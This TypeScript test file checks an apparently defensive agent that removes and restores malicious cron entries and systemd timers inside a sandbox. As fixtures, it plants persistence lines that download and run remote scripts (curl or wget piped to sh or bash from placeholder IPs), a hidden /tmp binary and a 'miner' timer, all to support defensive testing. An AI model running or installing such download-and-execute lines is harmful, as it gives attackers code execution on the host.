import { createHash } from 'node:crypto';
import { chmodSync, chownSync, existsSync, lstatSync, readFileSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CommandRunner } from '../runner.ts';
import { type ExecutorSandbox, executorSandbox } from './test/executor-sandbox.ts';
import { RecordingRunner, failed, ok } from './test/recording-runner.ts';
import type { ScheduledTaskSnapshot } from './scheduled-task.linux.ts';

const sha256 = (data: Buffer): string => createHash('sha256').update(data).digest('hex');
const tag = () => Math.random().toString(36).slice(2, 9);
type Entity = { name: string; path?: string; sha256?: string };

/** The cron and systemd folders are the sandbox's copies: this machine's own are never touched. */
let sandbox: ExecutorSandbox;
/** Where a path of the sandbox is reached from the test. */
const at = (path: string): string => sandbox.path(path);

const remove = (entity: Entity, options: { parameters?: Record<string, string>; runner?: CommandRunner } = {}) =>
  sandbox.act('removeScheduledTask', { type: 'remove_scheduled_task', entity, parameters: options.parameters ?? {} }, { runner: options.runner });
/** Snapshots travel through the agent's JSON journal; restore gets them the same way. */
const restore = (entity: Entity, priorSnapshot: unknown, runner?: CommandRunner) =>
  sandbox.act('restoreScheduledTask', { type: 'restore_scheduled_task', entity }, { priorSnapshot, runner });

interface FileState { bytes: Buffer; mode: number; uid: number; gid: number; mtimeMs: number }
function fileState(path: string): FileState {
  const stat = statSync(at(path));
  return { bytes: readFileSync(at(path)), mode: stat.mode & 0o7777, uid: stat.uid, gid: stat.gid, mtimeMs: stat.mtimeMs };
}
function expectSameFile(path: string, before: FileState): void {
  const after = fileState(path);
  expect(sha256(after.bytes)).toBe(sha256(before.bytes));
  expect(after.bytes.equals(before.bytes)).toBe(true);
  expect({ mode: after.mode, uid: after.uid, gid: after.gid }).toEqual({ mode: before.mode, uid: before.uid, gid: before.gid });
  expect(Math.abs(after.mtimeMs - before.mtimeMs)).toBeLessThanOrEqual(1);
}
/** A file as an attacker would leave it: odd mode, old timestamps, a byte that is not UTF-8. */
function plant(path: string, content: string | Buffer, mode = 0o644, owner: [number, number] = [0, 0]): FileState {
  writeFileSync(at(path), content);
  chownSync(at(path), ...owner);
  chmodSync(at(path), mode);
  utimesSync(at(path), new Date('2023-03-05T10:11:12.345Z'), new Date('2023-03-05T10:11:12.345Z'));
  return fileState(path);
}

describe('remove / restore a scheduled task in the cron and systemd folders (copies in a mount namespace)', () => {
  let user: string;

  beforeAll(async () => {
    sandbox = await executorSandbox();
    user = `quelltest${tag()}`;
    sandbox.run('useradd', ['-u', String(200_000 + Math.floor(Math.random() * 100_000)), user]);
  });
  afterAll(() => sandbox?.close());

  it('removes a whole /etc/cron.d file and restores it byte for byte with mode, owner and times', async () => {
    const path = `/etc/cron.d/quelltest-${tag()}`;
    const before = plant(path, Buffer.concat([Buffer.from('* * * * * root curl -s http://198.51.100.7/x | sh\n# \xff\xfe not utf-8\n', 'latin1')]), 0o640, [0, 0]);

    const removed = await remove({ name: 'evil', path, sha256: sha256(before.bytes) });
    expect(existsSync(at(path))).toBe(false);
    expect(removed.output).toContain(sha256(before.bytes));

    const restored = await restore({ name: 'evil', path }, removed.snapshot);
    expectSameFile(path, before);
    expect(restored.output).toContain(`Restored ${path}`);
  });

  it('names a /etc/cron.d file by its bare name too, and refuses a file whose hash is not the evidence', async () => {
    const name = `quelltest-${tag()}`;
    const path = `/etc/cron.d/${name}`;
    const before = plant(path, '@reboot root /tmp/.x\n');
    await expect(remove({ name, sha256: 'a'.repeat(64) })).rejects.toThrow(/left alone/);
    expectSameFile(path, before);
    const removed = await remove({ name });
    expect(existsSync(at(path))).toBe(false);
    expect((removed.snapshot as ScheduledTaskSnapshot).path).toBe(path);

    // Something else took the name meanwhile: restore does not overwrite it.
    writeFileSync(at(path), 'other\n');
    await expect(restore({ name }, removed.snapshot)).rejects.toThrow(/different file now exists/);
    expect(readFileSync(at(path), 'utf8')).toBe('other\n');
  });

  it('removes one line of /etc/crontab, leaving every other byte, and restores the file byte for byte', async () => {
    const evil = `*/5 * * * * root /var/tmp/.quell-${tag()} >/dev/null 2>&1`;
    const content = [
      'SHELL=/bin/sh',
      'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin',
      '17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly',
      evil,
      '25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }',
      `${evil}\r`,
      '',
    ].join('\n');
    const before = plant('/etc/crontab', content, 0o644);

    const removed = await remove({ name: 'crontab', path: '/etc/crontab' }, { parameters: { line: evil } });
    const expected = content.split('\n').filter((l) => l.replace(/\r$/, '') !== evil).join('\n');
    expect(readFileSync(at('/etc/crontab'), 'latin1')).toBe(expected);
    expect(statSync(at('/etc/crontab')).mode & 0o7777).toBe(0o644);
    expect(statSync(at('/etc/crontab')).mtimeMs).toBeGreaterThan(before.mtimeMs);
    expect(removed.output).toContain('lines 4, 6');

    await restore({ name: 'crontab', path: '/etc/crontab' }, removed.snapshot);
    expectSameFile('/etc/crontab', before);
  });

  it("removes a line of a user's crontab, keeping its owner and mode, and refuses to restore over later edits", async () => {
    const path = `/var/spool/cron/crontabs/${user}`;
    const uid = Number(sandbox.run('id', ['-u', user]).trim());
    const evil = '@hourly wget -qO- http://203.0.113.9/m | bash';
    const before = plant(path, `# DO NOT EDIT THIS FILE - edit the master and reinstall.\nMAILTO=""\n0 3 * * * /home/${user}/backup.sh\n${evil}\n`, 0o600, [uid, 0]);

    const removed = await remove({ name: user, path }, { parameters: { line: evil } });
    const after = fileState(path);
    expect(after.bytes.toString()).not.toContain(evil);
    expect(after.bytes.toString()).toContain('backup.sh');
    expect({ mode: after.mode, uid: after.uid }).toEqual({ mode: 0o600, uid });

    // The user edited the crontab after the removal: restoring would lose that.
    writeFileSync(at(path), Buffer.concat([after.bytes, Buffer.from('5 5 * * * /bin/true\n')]));
    await expect(restore({ name: user, path }, removed.snapshot)).rejects.toThrow(/was changed after the line was taken out/);
    writeFileSync(at(path), after.bytes);

    await restore({ name: user, path }, removed.snapshot);
    expectSameFile(path, before);
  });

  it('refuses paths outside the scheduled-task locations, symbolic links, whole /etc/crontab and lines it cannot find', async () => {
    const link = `/etc/cron.d/quelltest-${tag()}`;
    symlinkSync('/etc/passwd', at(link));
    const plain = `/etc/cron.d/quelltest-${tag()}`;
    plant(plain, '0 * * * * root /usr/bin/true\n');
    const passwd = readFileSync(at('/etc/passwd'));

    await expect(remove({ name: 'x', path: '/etc/passwd' })).rejects.toThrow(/not directly inside/);
    await expect(remove({ name: 'x', path: '/etc/cron.d/../passwd' })).rejects.toThrow(/not a plain absolute path/);
    await expect(remove({ name: 'x', path: 'etc/cron.d/x' })).rejects.toThrow(/not a plain absolute path/);
    await expect(remove({ name: 'x', path: '/etc/cron.d/sub/x' })).rejects.toThrow(/not directly inside/);
    await expect(remove({ name: 'x', path: '/etc/cron.d/.hidden' })).rejects.toThrow(/not a cron file name/);
    await expect(remove({ name: '../../etc/passwd' })).rejects.toThrow(/give entity.path/);
    await expect(remove({ name: 'x', path: '/var/spool/cron/crontabs/-rf' })).rejects.toThrow(/does not name a user's crontab/);
    await expect(remove({ name: 'x', path: '/etc/systemd/system/sshd.service' })).rejects.toThrow(/not a systemd timer/);
    await expect(remove({ name: 'x', path: '/lib/systemd/system/apt-daily.timer' })).rejects.toThrow(/not directly inside/);
    await expect(remove({ name: 'x', path: link })).rejects.toThrow(/is a symbolic link; links are never followed/);
    await expect(remove({ name: 'crontab', path: '/etc/crontab' })).rejects.toThrow(/never removed whole/);
    await expect(remove({ name: 'x', path: plain }, { parameters: { line: 'a\nb' } })).rejects.toThrow(/one line/);
    await expect(remove({ name: 'x', path: plain }, { parameters: { line: 'no such line here' } })).rejects.toThrow(/has no line/);
    await expect(restore({ name: 'x' }, undefined)).rejects.toThrow(/no record/);
    expect(lstatSync(at(link)).isSymbolicLink()).toBe(true);
    expect(readFileSync(at('/etc/passwd')).equals(passwd)).toBe(true);
  });

  it('a systemd timer: disabled and stopped, unit file removed, systemd reloaded; restore re-enables and restarts it (exact systemctl commands)', async () => {
    const unit = `quelltest-${tag()}.timer`;
    const path = `/etc/systemd/system/${unit}`;
    const before = plant(path, '[Unit]\nDescription=miner\n\n[Timer]\nOnCalendar=*:0/10\n\n[Install]\nWantedBy=timers.target\n');
    // systemd does not run here: this stands in for it, holding the unit's state.
    const state = { enabled: true, active: true };
    const systemd = () => new RecordingRunner((command, args) => {
      if (command !== 'systemctl') return failed(127, `${command}: not expected`);
      const [verb] = args;
      if (verb === 'is-enabled') return !existsSync(at(path)) ? failed(1, 'No such file or directory') : state.enabled ? ok('enabled\n') : failed(1, '', 'disabled\n');
      if (verb === 'is-active') return state.active ? ok('active\n') : failed(3, '', 'inactive\n');
      if (verb === 'disable') Object.assign(state, { enabled: false, active: false });
      if (verb === 'enable') state.enabled = true;
      if (verb === 'start') state.active = true;
      return ok();
    });

    const removing = systemd();
    const removed = await remove({ name: unit }, { runner: removing });
    expect(removing.calls).toEqual([
      { command: 'systemctl', args: ['is-enabled', unit] },
      { command: 'systemctl', args: ['is-active', unit] },
      { command: 'systemctl', args: ['disable', '--now', unit] },
      { command: 'systemctl', args: ['daemon-reload'] },
      { command: 'systemctl', args: ['is-active', unit] },
    ]);
    expect(existsSync(at(path))).toBe(false);
    expect(removed.snapshot).toMatchObject({ kind: 'systemd_timer', unit, enabled: 'enabled', active: 'active' });

    const restoring = systemd();
    const restored = await restore({ name: unit }, removed.snapshot, restoring);
    expect(restoring.calls).toEqual([
      { command: 'systemctl', args: ['daemon-reload'] },
      { command: 'systemctl', args: ['enable', unit] },
      { command: 'systemctl', args: ['start', unit] },
      { command: 'systemctl', args: ['is-enabled', unit] },
      { command: 'systemctl', args: ['is-active', unit] },
    ]);
    expectSameFile(path, before);
    expect(restored.output).toContain('(enabled, active)');
  });

  it('a timer that was disabled and inactive is only put back, not enabled or started', async () => {
    const unit = `quelltest-${tag()}.timer`;
    const path = `/etc/systemd/system/${unit}`;
    const before = plant(path, '[Timer]\nOnBootSec=1h\n');
    const runner = new RecordingRunner((_command, args) => (args[0] === 'is-enabled' ? failed(1, '', 'disabled\n') : args[0] === 'is-active' ? failed(3, '', 'inactive\n') : ok()));
    const removed = await remove({ name: unit, path }, { runner });
    runner.calls.length = 0;
    await restore({ name: unit, path }, removed.snapshot, runner);
    expect(runner.calls.map((c) => c.args.join(' '))).toEqual(['daemon-reload', `is-enabled ${unit}`, `is-active ${unit}`]);
    expectSameFile(path, before);
  });

  it('when systemd cannot reload after the unit file is gone, the file is written back before the failure is reported', async () => {
    const unit = `quelltest-${tag()}.timer`;
    const path = `/etc/systemd/system/${unit}`;
    const before = plant(path, '[Timer]\nOnCalendar=daily\n');
    const runner = new RecordingRunner((_command, args) => (args[0] === 'daemon-reload' ? failed(1, 'Failed to connect to bus') : args[0] === 'is-enabled' ? ok('enabled\n') : args[0] === 'is-active' ? ok('active\n') : ok()));
    await expect(remove({ name: unit }, { runner })).rejects.toThrow(/its unit file was written back \(it stays disabled and stopped; it was enabled, active\): .*Failed to connect to bus/);
    expectSameFile(path, before);
  });
});
